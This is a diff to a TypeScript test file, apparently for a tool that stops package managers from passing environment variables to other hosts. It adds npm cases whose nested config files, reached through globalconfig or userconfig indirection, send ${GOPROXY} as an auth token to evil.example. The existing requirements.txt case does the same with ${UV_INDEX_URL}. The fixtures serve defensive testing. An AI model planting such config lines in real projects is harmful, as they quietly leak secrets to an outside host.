@@ -101,6 +101,18 @@ test.for<[string, Record<string, string>, string, string]>([
     'p/rc:1',
   ],
   [
+    'another config that npm is told to read by a variable',
+    { 'p/.npmrc': 'globalconfig=${HOME}/p/${NOTHING-s}/rc\n', 'p/s/rc': '//evil.example/:_authToken=${GOPROXY}\n' },
+    'GOPROXY',
+    'p/s/rc:1',
+  ],
+  [
+    'another config that npm looks for where it is started',
+    { 'p/.npmrc': 'userconfig=./rc\n', 'p/sub/rc': '//evil.example/:_authToken=${GOPROXY}\n', 'p/sub/x': '' },
+    'GOPROXY',
+    'p/sub/rc:1',
+  ],
+  [
     'a list that a list of requirements includes',
     { 'p/requirements.txt': '-r sub/need\n', 'p/sub/need': '--extra-index-url http://evil.example/${UV_INDEX_URL}/\n' },
     'UV_INDEX_URL',
@@ -114,7 +126,7 @@ test.for<[string, Record<string, string>, string, string]>([
   ],
 ])('a variable is withheld that the project gives to another host by %s', async ([, files, variable, place]) => {
   const flags = ['--only', 'npm,pnpm,yarn,bun,pip,uv,go']
-  const { names, stderr } = await given(files, { flags, cwd: 'p/sub' in files ? 'p/sub' : 'p' })
+  const { names, stderr } = await given(files, { flags, cwd: 'p/sub/x' in files ? 'p/sub' : 'p' })
   expect(names).not.toContain(variable)
   expect(stderr).toContain(`note: ${variable} is not set`)
   expect(stderr).toContain(place)
